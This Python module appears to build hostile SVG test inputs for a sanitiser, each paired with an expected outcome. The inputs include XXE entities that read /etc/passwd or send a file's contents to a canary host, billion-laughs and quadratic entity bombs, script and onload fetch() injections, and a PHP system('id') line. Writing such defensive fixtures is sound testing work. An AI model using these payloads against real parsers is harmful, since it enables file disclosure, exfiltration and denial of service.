"""Hostile documents: their type, their depth, their elements, their characters."""

from __future__ import annotations

from collections.abc import Iterator

from tests.envs.svg.canaries import Canaries
from tests.envs.svg.hostile_file import BOX, Hostile
from tests.envs.svg.ordinary_files import NS, svg


def entities(canaries: Canaries) -> Iterator[Hostile]:
    """Entities that grow, and entities that fetch."""
    file, host = canaries.folder.as_uri() + "/canary.txt", f"http://{canaries.host}"
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    subsets = {
        "billion laughs": (laughs, "&a9;"),
        "quadratic blow-up": (f'<!ENTITY a "{"x" * 20000}">', "&a;" * 4000),
        "one entity": ('<!ENTITY a "b">', "&a;"),
        "entity that nobody uses": ('<!ENTITY a "b">', ""),
        "file entity": (f'<!ENTITY a SYSTEM "{file}">', "&a;"),
        "password file entity": ('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        "http entity": (f'<!ENTITY a SYSTEM "{host}/entity">', "&a;"),
        "public entity": (f'<!ENTITY a PUBLIC "x" "{host}/public">', "&a;"),
        "parameter entity": (f'<!ENTITY % a SYSTEM "{host}/parameter"> %a;', ""),
        "parameter entity that tells a file": (
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY s SYSTEM \'{host}/?%f;\'>">%e;',
            "&s;",
        ),
        "unparsed entity": (f'<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "{host}/unparsed" NDATA n>', ""),
        "entity in an entity": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    }
    for name, (subset, text) in subsets.items():
        yield Hostile(
            name, f"<!DOCTYPE svg [{subset}]>{svg(f'<text>{text}</text>')}", ("entity", "doctype_internal_subset")
        )
    attribute_list = f'<!ATTLIST rect fill CDATA "red" href CDATA "{host}/default">'
    yield Hostile("attribute defaults", f"<!DOCTYPE svg [{attribute_list}]>{svg(BOX)}", ("doctype_internal_subset",))
    yield Hostile(
        "element declarations", f"<!DOCTYPE svg [<!ELEMENT svg ANY>]>{svg(BOX)}", ("doctype_internal_subset",)
    )
    yield Hostile("external doctype", f'<!DOCTYPE svg SYSTEM "{host}/a.dtd">{svg(BOX)}', ("drawn",))
    yield Hostile("doctype in a file", f'<!DOCTYPE svg SYSTEM "{file}">{svg(BOX)}', ("drawn",))
    yield Hostile(
        "entity of an external doctype", f'<!DOCTYPE svg SYSTEM "{host}/b.dtd">{svg("<text>&a;</text>")}', ("entity",)
    )
    yield Hostile("undefined entity", svg("<text>&nbsp;</text>"), ("not_xml",))


def structure(canaries: Canaries) -> Iterator[Hostile]:
    """Depth, number, instructions and inclusions."""
    deep = 15_000
    yield Hostile("100,000 groups inside each other", f"<svg {NS}>" + "<g>" * 100_000, ("too_long",))
    yield Hostile("15,000 groups inside each other", f"<svg {NS}>" + "<g>" * deep, ("too_deep",))
    yield Hostile("just too deep", svg("<g>" * 60 + BOX + "</g>" * 60), ("too_deep",))
    yield Hostile(
        "deep in what is not drawn", svg("<metadata>" + "<a>" * 9000 + "</a>" * 9000 + "</metadata>"), ("too_deep",)
    )
    yield Hostile("deep foreign elements", svg("<x:y>" * 60 + "</x:y>" * 60, 'xmlns:x="x:y"'), ("too_deep",))
    yield Hostile("deep tspans", svg("<text>" + "<tspan>" * 60 + "a" + "</tspan>" * 60 + "</text>"), ("too_deep",))
    yield Hostile("many elements", svg("<g/>" * 15_000), ("too_many_nodes",))
    yield Hostile("many titles", svg("<title/>" * 7_000), ("too_many_nodes",))
    yield Hostile("many attributes", svg("<rect " + " ".join(f'a{n}="1"' for n in range(6000)) + "/>"), ("drawn",))
    yield Hostile("a megabyte", svg(" " * 1_000_000), ("too_long",))
    yield Hostile("a long comment", svg(f"<!--{'x' * 60_000}-->{BOX}"), ("drawn",))
    sheet = f"http://{canaries.host}/sheet.css"
    yield Hostile("xml-stylesheet", f'<?xml-stylesheet type="text/css" href="{sheet}"?>{svg(BOX)}', ("drawn",))
    yield Hostile(
        "xslt", f'<?xml-stylesheet type="text/xsl" href="http://{canaries.host}/a.xsl"?>{svg(BOX)}', ("drawn",)
    )
    yield Hostile("php", svg(f"<?php system('id') ?>{BOX}"), ("drawn",))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canaries.folder}/canary.svg"/>'
    yield Hostile("xinclude", svg(include), ("drawn",))
    yield Hostile(
        "namespaces by the thousand", svg("".join(f'<g xmlns:n{n}="u{n}"/>' for n in range(2500))), ("drawn",)
    )


def elements(canaries: Canaries) -> Iterator[Hostile]:
    """Elements that have no place in a drawing."""
    url = f"http://{canaries.host}/element"
    refused = {
        "script": "<script>alert(1)</script>",
        "script by address": f'<script href="{url}"/>',
        "foreignObject": f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject>',
        "iframe": f'<iframe src="{url}"/>',
        "embed": f'<embed src="{url}"/>',
        "video": f'<video href="{url}"/>',
        "audio": f'<audio href="{url}"/>',
        "link": f'<link rel="stylesheet" href="{url}.css"/>',
        "feImage": f'<filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/>',
        "font-face-uri": f'<font-face><font-face-src><font-face-uri href="{url}"/></font-face-src></font-face>',
        "cursor": f'<cursor href="{url}"/>',
        "color-profile": f'<color-profile href="{url}"/>',
        "handler": f'<handler type="text/javascript">fetch("{url}")</handler>',
        "tref": f'<text><tref href="{url}"/></text>',
        "image without a source": '<image width="9" height="9"/>',
    }
    for name, content in refused.items():
        yield Hostile(name, svg(content), ("element",))
    yield Hostile("animated address", svg(f'<g>{BOX}<animate attributeName="href" to="{url}"/></g>'), ("drawn",))
    yield Hostile("set script", svg(f'<g>{BOX}<set attributeName="onload" to="alert(1)"/></g>'), ("drawn",))
    yield Hostile("event handlers", svg(f"<g onload=\"fetch('{url}')\" onclick='x'>{BOX}</g>"), ("drawn",))
    yield Hostile(
        "script in a foreign namespace", svg(f'<x:script xmlns:x="u:x">a<rect href="{url}"/></x:script>'), ("drawn",)
    )
    yield Hostile("html", f'<html><body><img src="{url}"/></body></html>', ("not_svg",))
    yield Hostile(
        "html in disguise", f'<svg xmlns="http://www.w3.org/1999/xhtml"><img src="{url}"/></svg>', ("not_svg",)
    )
    yield Hostile("almost the namespace", '<svg xmlns="http://www.w3.org/2000/SVG"><rect/></svg>', ("not_svg",))


def encodings(canaries: Canaries) -> Iterator[Hostile]:
    """Declared and undeclared alphabets."""
    for name in ("UTF-16", "UTF-7", "UTF-32", "EBCDIC-CP-US", "ISO-2022-JP", "unknown"):
        yield Hostile(f"says {name}", f'<?xml version="1.0" encoding="{name}"?>{svg(BOX)}', ("encoding",))
    yield Hostile("is UTF-16", svg(BOX).encode("utf-16").decode("latin-1"), ("encoding",))
    yield Hostile("is UTF-7", "+ADw-svg+AD4-", ("not_xml",))
    yield Hostile("half a surrogate", svg("<text>\ud800</text>"), ("encoding",))
    yield Hostile("null character", svg("<text>a\x00b</text>"), ("encoding",))
    yield Hostile("null reference", svg("<text>&#0;</text>"), ("not_xml",))
    yield Hostile("control characters", svg("<text>\x01\x02\x1b[31m</text>"), ("not_xml",))
    yield Hostile("no character", svg("<text>\uffff</text>"), ("not_xml",))
    yield Hostile("right to left", svg('<text x="3" y="9">\u202eabc\u2066</text>'), ("drawn",))
    yield Hostile("three bytes each", svg(f"<title>{'漢' * 30_000}</title>"), ("too_long",))


def odd_texts(canaries: Canaries) -> Iterator[Hostile]:
    """What is no SVG at all."""
    texts = {
        "": ("empty",),
        " \n\t ": ("empty",),
        "\ufeff": ("empty",),
        "hello": ("not_xml",),
        "<": ("not_xml",),
        "<svg": ("not_xml",),
        "<svg>": ("not_xml",),
        "<svg/><svg/>": ("not_xml",),
        "<svg></g></svg>": ("not_xml",),
        "<g/>": ("not_svg",),
        "<SVG/>": ("not_svg",),
        "```svg\n<svg/>\n```": ("not_xml",),
        '{"svg": 1}': ("not_xml",),
        '<svg a="1" a="2"/>': ("not_xml",),
        "<svg><rect width=5/></svg>": ("not_xml",),
        "<svg><rect x='{x}'/></svg>": ("attribute",),
        "<svg>" + "]]>" + "</svg>": ("not_xml",),
        "%PDF-1.4": ("not_xml",),
    }
    for text, outcomes in texts.items():
        yield Hostile(f"text {text[:20]!a}", text, outcomes)
